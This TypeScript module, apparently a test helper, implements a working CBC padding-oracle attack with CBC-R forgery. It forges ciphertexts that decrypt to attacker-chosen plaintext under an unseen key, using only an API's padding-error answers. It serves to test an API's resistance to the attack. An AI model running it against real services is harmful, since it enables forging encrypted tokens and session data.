import { randomBytes } from 'node:crypto';

/**
 * A CBC padding-oracle attacker (Vaudenay 2002) with CBC-R encryption (Rizzo & Duong 2010), to
 * attack the API the way a logged-in client could: with nothing but its answers to ciphertexts
 * of the attacker's choosing, it makes a ciphertext that decrypts, under a key it never sees,
 * to a plaintext of its choosing.
 *
 * Hand-written for the tests: attack libraries (padbuster, python-paddingoracle) are not on
 * npm, and the algorithm is short enough to read here.
 */

const BLOCK = 16;

/**
 * Sends one (iv, ciphertext) to the target and returns its answer reduced to what an attacker
 * compares (without what differs on every request, such as a request id). Throws AttackStopped
 * when the target cut the attacker off.
 */
export type Ask = (iv: Buffer, ciphertext: Buffer) => Promise<string>;

/** The target stopped answering the attacker's questions (refused, or signed it out). */
export class AttackStopped extends Error {
  override name = 'AttackStopped';
}

/** No guess ever got another answer than bad padding: the target is not a padding oracle. */
export class NoOracle extends Error {
  override name = 'NoOracle';
}

export interface Forged {
  iv: Buffer;
  ciphertext: Buffer;
}

/**
 * Counts questions, and tells "bad padding" from "good padding" by answer alone: the answer most
 * random one-block ciphertexts get (bad padding but for 1 in ~256) is learnt as bad padding, and
 * any other answer means the padding was good, whatever the target says it was.
 */
export class PaddingOracleAttacker {
  queries = 0;
  private badPadding: string | undefined;

  constructor(private readonly ask: Ask) {}

  /** CBC-R: a ciphertext (and iv) of `plaintext`, from the last block back to the iv. */
  async forge(plaintext: Buffer): Promise<Forged> {
    const padded = pkcs7(plaintext);
    const blocks = padded.length / BLOCK;
    let next: Buffer = randomBytes(BLOCK);
    const ciphertext: Buffer[] = [next];
    for (let i = blocks - 1; i >= 0; i--) {
      // D(next) XOR previous = plaintext block, so the previous block is D(next) XOR plaintext.
      const intermediate = await this.intermediateOf(next);
      next = xor(intermediate, padded.subarray(i * BLOCK, (i + 1) * BLOCK));
      if (i > 0) ciphertext.unshift(next);
    }
    return { iv: next, ciphertext: Buffer.concat(ciphertext) };
  }

  /** D(block), the block cipher's decryption of one block, found byte by byte from the end. */
  async intermediateOf(block: Buffer): Promise<Buffer> {
    const intermediate = Buffer.alloc(BLOCK);
    for (let pad = 1; pad <= BLOCK; pad++) {
      const at = BLOCK - pad;
      const iv = randomBytes(BLOCK);
      for (let j = at + 1; j < BLOCK; j++) iv[j] = intermediate[j]! ^ pad;
      intermediate[at] = (await this.findPaddingByte(iv, block, at)) ^ pad;
    }
    return intermediate;
  }

  private async findPaddingByte(iv: Buffer, block: Buffer, at: number): Promise<number> {
    for (let guess = 0; guess < 256; guess++) {
      iv[at] = guess;
      if (!(await this.goodPadding(iv, block))) continue;
      // For the last byte, good padding may be \x02\x02 (or longer) by chance instead of \x01:
      // changing the byte before it keeps only \x01 good.
      if (at === BLOCK - 1) {
        const check = Buffer.from(iv);
        check[at - 1]! ^= 0xff;
        if (!(await this.goodPadding(check, block))) continue;
      }
      return guess;
    }
    throw new NoOracle(`after ${this.queries} questions no guess for byte ${at} got another answer than bad padding`);
  }

  private async goodPadding(iv: Buffer, block: Buffer): Promise<boolean> {
    this.badPadding ??= await this.learnBadPadding();
    return (await this.question(iv, block)) !== this.badPadding;
  }

  private async learnBadPadding(): Promise<string> {
    const answers: string[] = [];
    for (let i = 0; i < 3; i++) answers.push(await this.question(randomBytes(BLOCK), randomBytes(BLOCK)));
    return answers.find((answer, i) => answers.indexOf(answer) !== i) ?? answers[0]!;
  }

  private question(iv: Buffer, ciphertext: Buffer): Promise<string> {
    this.queries += 1;
    return this.ask(Buffer.from(iv), Buffer.from(ciphertext));
  }
}

function pkcs7(data: Buffer): Buffer {
  const n = BLOCK - (data.length % BLOCK);
  return Buffer.concat([data, Buffer.alloc(n, n)]);
}

function xor(a: Buffer, b: Buffer): Buffer {
  return Buffer.from(a.map((byte, i) => byte ^ b[i]!));
}
